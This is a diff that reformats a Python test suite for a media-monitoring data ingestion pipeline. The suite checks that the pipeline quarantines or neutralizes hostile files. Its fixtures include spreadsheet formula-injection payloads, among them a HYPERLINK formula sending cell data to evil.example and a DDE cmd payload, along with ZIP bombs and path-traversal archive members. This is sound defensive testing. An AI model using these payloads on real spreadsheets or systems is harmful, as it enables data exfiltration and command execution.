@@ -18,8 +18,14 @@ from exports import GENERIC_HEADER, csv_text, write_xlsx
 from ingestion.load import ingest_media
 from ingestion.safe_export import write_csv
 
-GOOD = {"date": "2025-03-01 07:45", "title": "Jembatan baru diresmikan", "outlet": "Antara Kalsel",
-        "issue": "Infrastruktur", "sentiment": "positif", "reach": "1.500"}
+GOOD = {
+    "date": "2025-03-01 07:45",
+    "title": "Jembatan baru diresmikan",
+    "outlet": "Antara Kalsel",
+    "issue": "Infrastruktur",
+    "sentiment": "positif",
+    "reach": "1.500",
+}
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"]
 
 
@@ -29,7 +35,9 @@ def good_rows(tag: str, n: int = 2) -> list[dict[str, str]]:
 
 
 def generic_csv(tag: str, bad: list[dict[str, str]], n_good: int = 2) -> bytes:
-    return csv_text(GENERIC_HEADER, good_rows(tag, n_good) + [{**GOOD, "title": f"{tag} rusak", **b} for b in bad]).encode()
+    return csv_text(
+        GENERIC_HEADER, good_rows(tag, n_good) + [{**GOOD, "title": f"{tag} rusak", **b} for b in bad]
+    ).encode()
 
 
 def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
@@ -86,39 +94,75 @@ CORPUS: dict[str, Case] = {
     "truncated_utf16.csv": (utf16_truncated, ("loaded", None)),
     "mixed_encodings.csv": (mixed_encodings, ("loaded", 2)),
     "single_10mb_line.csv": (lambda: b"x," * (5 * 2**20), ("quarantined", "unknown export layout")),
-    "ten_mb_cell.csv": (lambda: generic_csv("sel besar", [{"title": "y" * (10 * 2**20)}]), ("quarantined", "not a readable CSV")),
+    "ten_mb_cell.csv": (
+        lambda: generic_csv("sel besar", [{"title": "y" * (10 * 2**20)}]),
+        ("quarantined", "not a readable CSV"),
+    ),
     "zip_bomb.zip": (lambda: bomb("kliping.csv"), ("quarantined", "looks like a ZIP bomb")),
     "xlsx_bomb.xlsx": (lambda: bomb("xl/worksheets/sheet1.xml"), ("quarantined", "looks like a ZIP bomb")),
     "too_many_members.zip": (many_members, ("quarantined", "more than the cap of 200")),
-    "truncated.zip": (lambda: zip_bytes({"a.csv": generic_csv("zip terpotong", [])})[:60], ("quarantined", "not a readable ZIP")),
+    "truncated.zip": (
+        lambda: zip_bytes({"a.csv": generic_csv("zip terpotong", [])})[:60],
+        ("quarantined", "not a readable ZIP"),
+    ),
     "no_data_inside.zip": (lambda: zip_bytes({"readme.md": b"# nothing"}), ("quarantined", "holds no CSV or XLSX")),
     "dotdot_member.zip": (lambda: zip_bytes({"../../../escaped.csv": generic_csv("zip dotdot", [])}), ("loaded", 2)),
-    "absolute_member.zip": (lambda: zip_bytes({"/tmp/citra_absolute.csv": generic_csv("zip absolut", [])}), ("loaded", 2)),
-    "zip_with_one_bad_member.zip": (lambda: zip_bytes({"ok.csv": generic_csv("zip campur", []), "bad.csv": b"\x00\x01\x02"}),
-                                    ("loaded", 2)),
+    "absolute_member.zip": (
+        lambda: zip_bytes({"/tmp/citra_absolute.csv": generic_csv("zip absolut", [])}),
+        ("loaded", 2),
+    ),
+    "zip_with_one_bad_member.zip": (
+        lambda: zip_bytes({"ok.csv": generic_csv("zip campur", []), "bad.csv": b"\x00\x01\x02"}),
+        ("loaded", 2),
+    ),
     "not_really.xlsx": (lambda: b"PK\x03\x04 this is not a workbook", ("quarantined", "not a readable")),
     "random_bytes.xlsx": (lambda: os.urandom(4096), ("quarantined", "not a readable")),
-    "wrong_vendor.csv": (lambda: csv_text(["Tanggal Rapat", "Peserta", "Notulen"], [{"Peserta": "12"}]).encode(),
-                         ("quarantined", "")),
+    "wrong_vendor.csv": (
+        lambda: csv_text(["Tanggal Rapat", "Peserta", "Notulen"], [{"Peserta": "12"}]).encode(),
+        ("quarantined", ""),
+    ),
     "preamble_only.csv": (lambda: b"Laporan Monitoring Media\r\nPeriode: Maret 2025\r\n", ("quarantined", "")),
     "duplicated_columns.csv": (duplicated_columns, ("loaded", 2)),
-    "future_dates.csv": (lambda: generic_csv("masa depan", [{"date": "2099-01-01 10:00"}]),
-                         ("rejects", "is in the future", 2)),
-    "before_2000.csv": (lambda: generic_csv("lampau", [{"date": "1970-01-01 08:00"}, {"date": "1999-12-31"}]),
-                        ("rejects", "is before 2000-01-01", 2)),
-    "negative_counts.csv": (lambda: generic_csv("negatif", [{"reach": "-20"}, {"engagement": "-1"}]),
-                            ("rejects", "is negative", 2)),
-    "absurd_counts.csv": (lambda: generic_csv("mustahil", [{"reach": "99999999999999999999"}, {"engagement": "5000000000000"},
-                                                           {"reach": "2.000.000.000.000.000"}]),
-                          ("rejects", "is not plausible (more than 10^12)", 2)),
-    "formula_strings.csv": (lambda: generic_csv("rumus", [], 0) + csv_text(
-        GENERIC_HEADER, [{**GOOD, "title": f, "outlet": f} for f in FORMULAS]).split("\r\n", 1)[1].encode(),
-                            ("loaded", len(FORMULAS))),
-    "unterminated_quote.csv": (lambda: generic_csv("kutip", []) + b'2025-03-02 10:00,"Judul tanpa akhir,x,y\r\n',
-                               ("quarantined", "cannot be parsed: Invalid Input Error")),
-    "semicolon_sep_line.csv": (lambda: b"sep=;\r\n" + csv_text(GENERIC_HEADER, good_rows("sep"), delimiter=";").encode(),
-                               ("loaded", 2)),
-    "utf16_be.csv": (lambda: b"\xfe\xff" + csv_text(GENERIC_HEADER, good_rows("utf16be")).encode("utf-16-be"), ("loaded", 2)),
+    "future_dates.csv": (
+        lambda: generic_csv("masa depan", [{"date": "2099-01-01 10:00"}]),
+        ("rejects", "is in the future", 2),
+    ),
+    "before_2000.csv": (
+        lambda: generic_csv("lampau", [{"date": "1970-01-01 08:00"}, {"date": "1999-12-31"}]),
+        ("rejects", "is before 2000-01-01", 2),
+    ),
+    "negative_counts.csv": (
+        lambda: generic_csv("negatif", [{"reach": "-20"}, {"engagement": "-1"}]),
+        ("rejects", "is negative", 2),
+    ),
+    "absurd_counts.csv": (
+        lambda: generic_csv(
+            "mustahil",
+            [{"reach": "99999999999999999999"}, {"engagement": "5000000000000"}, {"reach": "2.000.000.000.000.000"}],
+        ),
+        ("rejects", "is not plausible (more than 10^12)", 2),
+    ),
+    "formula_strings.csv": (
+        lambda: (
+            generic_csv("rumus", [], 0)
+            + csv_text(GENERIC_HEADER, [{**GOOD, "title": f, "outlet": f} for f in FORMULAS])
+            .split("\r\n", 1)[1]
+            .encode()
+        ),
+        ("loaded", len(FORMULAS)),
+    ),
+    "unterminated_quote.csv": (
+        lambda: generic_csv("kutip", []) + b'2025-03-02 10:00,"Judul tanpa akhir,x,y\r\n',
+        ("quarantined", "cannot be parsed: Invalid Input Error"),
+    ),
+    "semicolon_sep_line.csv": (
+        lambda: b"sep=;\r\n" + csv_text(GENERIC_HEADER, good_rows("sep"), delimiter=";").encode(),
+        ("loaded", 2),
+    ),
+    "utf16_be.csv": (
+        lambda: b"\xfe\xff" + csv_text(GENERIC_HEADER, good_rows("utf16be")).encode("utf-16-be"),
+        ("loaded", 2),
+    ),
     "cp1252.csv": (lambda: csv_text(GENERIC_HEADER, good_rows("Pembangunan café")).encode("cp1252"), ("loaded", 2)),
 }
 
@@ -126,9 +170,14 @@ CORPUS: dict[str, Case] = {
 def xlsx_cases(landing: Path) -> dict[str, tuple]:
     """Workbooks are written by openpyxl itself, so they are real XLSX files."""
     write_xlsx(landing / "empty_sheet.xlsx", [], [])
-    write_xlsx(landing / "formula_cells.xlsx", GENERIC_HEADER,
-               [{**GOOD, "title": "xlsx baris"}, {**GOOD, "title": '=HYPERLINK("http://evil.example","klik")',
-                                                  "url": "", "date": "2025-03-02 09:00"}])
+    write_xlsx(
+        landing / "formula_cells.xlsx",
+        GENERIC_HEADER,
+        [
+            {**GOOD, "title": "xlsx baris"},
+            {**GOOD, "title": '=HYPERLINK("http://evil.example","klik")', "url": "", "date": "2025-03-02 09:00"},
+        ],
+    )
     return {"empty_sheet.xlsx": ("quarantined", ""), "formula_cells.xlsx": ("loaded", None)}
 
 
@@ -195,12 +244,16 @@ def test_bad_rows_are_set_aside_with_a_reason_naming_the_problem(hostile_run) ->
             reasons = [r[2] for r in rejects if r[0] == name]
             assert reasons and all(expect[1] in r for r in reasons), (name, reasons)
     absurd = sorted(r[2] for r in rejects if r[0] == "absurd_counts.csv")
-    assert absurd == ["engagement 5000000000000 is not plausible (more than 10^12)",
-                      "reach 2.000.000.000.000.000 is not plausible (more than 10^12)",
-                      "reach 99999999999999999999 is not plausible (more than 10^12)"]
+    assert absurd == [
+        "engagement 5000000000000 is not plausible (more than 10^12)",
+        "reach 2.000.000.000.000.000 is not plausible (more than 10^12)",
+        "reach 99999999999999999999 is not plausible (more than 10^12)",
+    ]
     future = [r for r in rejects if r[0] == "future_dates.csv"]
-    assert future[0][1:] == (4, "date '2099-01-01 10:00' is in the future (after the day of ingestion); "
-                                "check the date format or the export")
+    assert future[0][1:] == (
+        4,
+        "date '2099-01-01 10:00' is in the future (after the day of ingestion); check the date format or the export",
+    )
 
 
 def test_every_good_row_of_the_good_file_loads_beside_the_corpus(hostile_run) -> None:
@@ -225,12 +278,16 @@ def test_links_and_paths_outside_landing_are_never_read(hostile_run) -> None:
     assert not (home / "escaped.csv").exists() and not Path("/tmp/citra_absolute.csv").exists()
 
 
-def test_formula_strings_are_kept_as_text_in_the_warehouse_and_neutralized_on_export(hostile_run, tmp_path: Path) -> None:
+def test_formula_strings_are_kept_as_text_in_the_warehouse_and_neutralized_on_export(
+    hostile_run, tmp_path: Path
+) -> None:
     home, _, _, _ = hostile_run
     with duckdb.connect(str(home / "warehouse.duckdb"), read_only=True) as con:
-        rows = con.execute("select title, outlet from raw.media_mentions where source_file_id = "
-                           "(select file_id from raw.ingest_files where file_name = 'formula_strings.csv') "
-                           "order by source_row").fetchall()
+        rows = con.execute(
+            "select title, outlet from raw.media_mentions where source_file_id = "
+            "(select file_id from raw.ingest_files where file_name = 'formula_strings.csv') "
+            "order by source_row"
+        ).fetchall()
     assert [r[0] for r in rows] == FORMULAS
     with write_csv(tmp_path / "annex.csv", ["title", "outlet"], rows).open(encoding="utf-8-sig", newline="") as fh:
         cells = [cell for row in list(csv.reader(fh))[1:] for cell in row]
